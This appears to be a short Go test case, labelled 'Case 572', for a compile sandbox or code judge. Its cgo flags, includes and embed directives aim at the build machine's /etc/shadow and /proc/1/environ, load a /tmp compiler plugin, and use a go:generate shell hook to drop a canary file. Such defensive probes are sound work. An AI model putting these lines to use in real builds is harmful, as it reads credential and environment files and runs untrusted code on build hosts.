// Case 572: embeds files of the compiler's machine and passes flags to a C compiler.
package main

// #cgo CFLAGS: -fplugin=/tmp/jcan572.so -I/proc/1/root
// #cgo LDFLAGS: -Wl,--version-script=/etc/shadow -Wl,-o,/store/jcan572
// #include "/proc/1/environ"
import "C"
import _ "embed"
import "fmt"

//go:embed ../../etc/shadow
var secret string

//go:generate sh -c "touch /tmp/judge_canary_572"
func main() { fmt.Println("EMBEDDED", secret) }
